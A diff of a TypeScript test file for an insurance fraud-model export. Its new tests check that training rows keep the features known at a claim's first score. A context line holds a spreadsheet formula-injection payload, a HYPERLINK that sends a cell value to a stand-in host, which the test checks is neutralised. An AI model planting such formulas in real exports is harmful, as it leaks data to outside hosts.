@@ -2,7 +2,15 @@ import { readFileSync } from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { assessFraud } from '../../lambdas/core/fraud/assess.ts';
-import { EXPORT_ID, EXPORT_LABEL, type LabelledClaim, trainingCsv } from '../../lambdas/core/fraud/export.ts';
+import {
+  EXPORT_ID,
+  EXPORT_LABEL,
+  exportedFeatures,
+  firstScoreOf,
+  type LabelledClaim,
+  type StoredFraudRecord,
+  trainingCsv,
+} from '../../lambdas/core/fraud/export.ts';
 import { computeFeatures, FEATURE_CATALOGUE, type FeatureRow } from '../../lambdas/core/fraud/features.ts';
 import { rng } from '../../lambdas/core/fraud/gbdt.ts';
 import { trainFraudModel } from '../../lambdas/core/fraud/model.ts';
@@ -95,5 +103,48 @@ describe('the SIU export opened in a spreadsheet', () => {
     expect(csv).not.toMatch(/[,\n]"?=HYPERLINK/);
     const [record] = parse(csv, { columns: true }) as Record<string, string>[];
     expect(record?.Make).toBe(`'=HYPERLINK("https://x.example/?"&A2,"Toyota")`);
+  });
+});
+
+describe('the SIU export trains on what was known at the first score, not on what the investigation found', () => {
+  const record = (features: FeatureRow, o: Partial<StoredFraudRecord> = {}): StoredFraudRecord => ({
+    score: 0.2,
+    threshold: 0.13,
+    contributions: [],
+    reasons: ['SCORE_ABOVE_THRESHOLD'],
+    links: [],
+    features,
+    scoredAt: '2026-03-01T00:00:00Z',
+    trigger: 'receipt',
+    model: 'm',
+    ...o,
+  });
+  const [claim] = history(1);
+  const atReceipt = claim!.features as FeatureRow;
+  // After the referral: the investigator's information requests answered, documents sent.
+  const afterInvestigation = { ...atReceipt, NumberOfSuppliments: 4, Claims_In_Window: 2 } as FeatureRow;
+
+  it('freezes the row of the first score once; rescores keep it and replace only the latest row', () => {
+    const first = firstScoreOf(undefined, atReceipt, '2026-03-01T00:00:00Z');
+    expect(first).toEqual({ firstFeatures: atReceipt, firstScoredAt: '2026-03-01T00:00:00Z' });
+    const stored = record(atReceipt, first);
+    const rescored = record(afterInvestigation, {
+      ...firstScoreOf(stored, afterInvestigation, '2026-04-01T00:00:00Z'),
+      scoredAt: '2026-04-01T00:00:00Z',
+      trigger: 'information',
+    });
+    expect(rescored.firstFeatures).toEqual(atReceipt);
+    expect(rescored.firstScoredAt).toBe('2026-03-01T00:00:00Z');
+    expect(exportedFeatures(rescored)).toEqual(atReceipt);
+    const csv = trainingCsv([{ ...claim!, features: exportedFeatures(rescored)! }]);
+    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(row?.NumberOfSuppliments).toBe(String(atReceipt.NumberOfSuppliments));
+  });
+
+  it('leaves out a claim scored before snapshots were kept rather than export its latest rescore', () => {
+    const legacy = record(afterInvestigation);
+    expect(exportedFeatures(legacy)).toBeNull();
+    expect(firstScoreOf(legacy, afterInvestigation, '2026-04-01T00:00:00Z')).toBeUndefined();
+    expect(exportedFeatures(undefined)).toBeNull();
   });
 });
